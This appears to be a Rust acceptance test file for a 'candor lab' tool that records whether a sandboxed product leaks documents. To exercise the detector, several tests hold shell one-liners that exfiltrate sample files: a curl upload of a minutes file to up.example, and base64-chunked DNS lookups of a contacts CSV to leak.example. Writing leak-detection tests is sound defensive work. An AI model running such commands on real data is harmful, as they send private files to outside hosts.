//! `candor lab` from end to end: products that are honest, that leak, and that do not start.
#![expect(
    clippy::panic,
    reason = "a test fails by panicking, in its helping functions too"
)]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use acceptance::cli::{Ran, run as ran};
use acceptance::lab::{can_enclose, lab_program};
use serde_json::Value;

/// `candor lab`, in a folder.
fn lab(folder: &Path, arguments: &[&str]) -> Ran {
    let mut command = Command::new(lab_program("candor"));
    command.current_dir(folder).arg("lab").args(arguments);
    ran(command.stdin(Stdio::null()))
}

/// Runs a script of the shell as the product, and gives the bundle and what came of it.
fn run(folder: &Path, pairs: &str, script: &str) -> (PathBuf, Ran, Value) {
    let bundle = folder.join("a.bundle");
    let options = ["run", "-o", "a.bundle", "--json", "--pairs", pairs];
    let command = ["--", "sh", "-c", script, "product", "{documents}"];
    let ran = lab(folder, &[&options[..], &command[..]].concat());
    let answers = serde_json::from_str(&ran.out)
        .unwrap_or_else(|error| panic!("{error}: {}{}", ran.out, ran.err));
    (bundle, ran, answers)
}

fn reasons(answers: &Value) -> String {
    answers["outcome"]["reasons"].to_string()
}

#[test]
fn an_honest_command_is_seen_to_send_nothing_in_59_pairs() {
    if !can_enclose("a command that sends nothing") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let (_, ran, answers) = run(folder.path(), "59", "sha256sum \"$1\"/* >/dev/null");
    assert_eq!(ran.code, Some(0), "{}", reasons(&answers));
    assert_eq!(answers["outcome"]["verdict"], "no-flow-seen");
    let (_, ran, answers) = run(folder.path(), "1", "sha256sum \"$1\"/* >/dev/null");
    assert_eq!(ran.code, Some(2), "{}", reasons(&answers));
    assert!(
        reasons(&answers).contains("too few"),
        "{}",
        reasons(&answers)
    );
}

#[test]
fn a_document_that_is_sent_is_named() {
    if !can_enclose("a command that sends a document") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    for url in ["http://up.example/", "https://up.example/"] {
        let script = format!(
            "curl --silent --show-error --data-binary @\"$(echo \"$1\"/minutes-*.txt | cut -d' ' -f1)\" {url}"
        );
        let (_, ran, answers) = run(folder.path(), "1", &script);
        assert_eq!(ran.code, Some(1), "{url}: {}", reasons(&answers));
        let hit = &answers["collects"]["canaries"]["value"][0];
        assert!(
            hit["document"]
                .as_str()
                .is_some_and(|name| name.starts_with("minutes-")),
            "{hit}"
        );
    }
}

#[test]
fn a_document_that_leaves_by_names_is_found() {
    if !can_enclose("a command that asks for names") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let script = "for word in $(tail -n 3 \"$1\"/contacts-*.csv | base64 -w 40 | tr -d =+/); do \
         getent hosts $word.leak.example; done >/dev/null";
    let (_, ran, answers) = run(folder.path(), "1", script);
    assert_eq!(ran.code, Some(1), "{}", reasons(&answers));
    assert!(
        reasons(&answers).contains("base64"),
        "{}",
        reasons(&answers)
    );
}

#[test]
fn words_that_hold_no_secret_are_not_conclusive() {
    if !can_enclose("a command that sends the same each time") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let script = "ls \"$1\" >/dev/null; curl --silent --data same http://up.example/ >/dev/null";
    let (_, ran, answers) = run(folder.path(), "2", script);
    assert_eq!(ran.code, Some(2), "{}", reasons(&answers));
    let endpoints = answers["collects"]["endpoints"].to_string();
    assert!(endpoints.contains("up.example"), "{endpoints}");
}

#[test]
fn a_command_that_does_not_start_is_not_conclusive_and_told() {
    if !can_enclose("a command that does not start") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let words = [
        "run",
        "-o",
        "a.bundle",
        "--",
        "no-such-scanner",
        "{documents}",
    ];
    let ran = lab(folder.path(), &words);
    assert_eq!(ran.code, Some(2), "{ran:?}");
    assert!(
        ran.err.contains("no-such-scanner can't be started"),
        "{}",
        ran.err
    );
    let ran = lab(folder.path(), &["run", "-o", "b.bundle", "--", "true"]);
    assert_eq!(ran.code, Some(2), "{ran:?}");
    assert!(ran.err.contains("put {documents} where"), "{}", ran.err);
    assert!(!folder.path().join("b.bundle").exists());
}

#[test]
fn the_answers_are_computed_again_and_a_bundle_that_was_changed_is_refused() {
    if !can_enclose("answers from a bundle") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let script = "cat \"$1\"/* >/dev/null; echo new >/etc/new; echo telltale";
    let (bundle, ran, _) = run(folder.path(), "1", script);
    let again = lab(folder.path(), &["report", "--json", "a.bundle"]);
    assert_eq!(
        (again.code, &again.out),
        (ran.code, &ran.out),
        "{}",
        again.err
    );
    let page = lab(folder.path(), &["report", "--html", "a.html", "a.bundle"]);
    assert_eq!(page.code, ran.code, "{}", page.err);
    let page = fs::read_to_string(folder.path().join("a.html")).expect("a page");
    assert!(page.contains("<html") && !page.contains("<script"));
    let mut bytes = fs::read(&bundle).expect("the bundle");
    let place = bytes
        .windows(8)
        .position(|part| part == b"telltale")
        .expect("the output");
    bytes[place] ^= 1;
    fs::write(&bundle, bytes).expect("the bundle can be changed");
    let refused = lab(folder.path(), &["report", "a.bundle"]);
    assert_eq!(refused.code, Some(2), "{refused:?}");
    assert!(
        refused.out.is_empty() && !refused.err.is_empty(),
        "{refused:?}"
    );
}

#[test]
fn an_interrupt_leaves_nothing_behind() {
    if !can_enclose("an interrupted recording") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let mut child = Command::new(lab_program("candor"))
        .current_dir(folder.path())
        .args([
            "lab",
            "run",
            "-o",
            "a.bundle",
            "--",
            "sleep",
            "600",
            "{documents}",
        ])
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("it starts");
    std::thread::sleep(Duration::from_secs(2));
    let recorder = children_of(child.id());
    assert_eq!(recorder.len(), 1, "one recorder");
    // As a terminal does it: to each of them.
    for process in recorder.iter().chain([&child.id()]) {
        let status = Command::new("kill")
            .args(["-INT", &process.to_string()])
            .status();
        assert!(status.expect("kill runs").success());
    }
    let deadline = Instant::now() + Duration::from_secs(20);
    let status = loop {
        match child.try_wait().expect("it can be waited for") {
            Some(status) => break status,
            None => assert!(Instant::now() < deadline, "it goes on"),
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    assert_eq!(status.code(), Some(2));
    let left: Vec<_> = fs::read_dir(folder.path())
        .expect("a folder")
        .flatten()
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

fn children_of(parent: u32) -> Vec<u32> {
    let path = format!("/proc/{parent}/task/{parent}/children");
    let list = fs::read_to_string(path).unwrap_or_default();
    list.split_whitespace()
        .filter_map(|one| one.parse().ok())
        .collect()
}
